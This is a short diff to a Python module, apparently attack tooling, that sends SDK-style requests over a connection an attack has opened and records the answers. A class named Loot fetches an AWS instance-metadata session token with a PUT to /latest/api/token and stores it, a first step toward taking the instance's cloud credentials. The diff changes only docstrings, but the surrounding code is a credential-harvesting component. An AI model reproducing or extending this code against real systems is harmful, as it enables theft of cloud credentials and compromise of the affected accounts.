@@ -1,4 +1,4 @@
-"""Asks as SDKs ask, over whatever connection an attack has got, and keeps what it was answered."""
+"""Requests credentials as SDKs do, over any connection that an attack has opened, and records the answers."""
 import json
 import re
 
@@ -14,7 +14,7 @@ def request(method, path, headers=()):
 
 
 def whole_answer(data):
-    """(status, body) of the first answer in `data`; None while some of it is missing."""
+    """(status, body) of the first answer in `data`; None while it is incomplete."""
     head, separator, rest = data.partition(b"\r\n\r\n")
     status = re.match(rb"HTTP/1\.1 (\d{3})", head)
     if not separator or status is None:
@@ -58,7 +58,7 @@ class Loot:
             pass
 
     def imds(self, exchange):
-        """`exchange(bytes)`: (status, body), or None without an answer."""
+        """`exchange(bytes)` returns (status, body), or None without an answer."""
         token = self._ask(exchange, "token", "PUT", "/latest/api/token", ["X-aws-ec2-metadata-token-ttl-seconds: 60"])
         if token is not None:
             self.tokens.append(token)
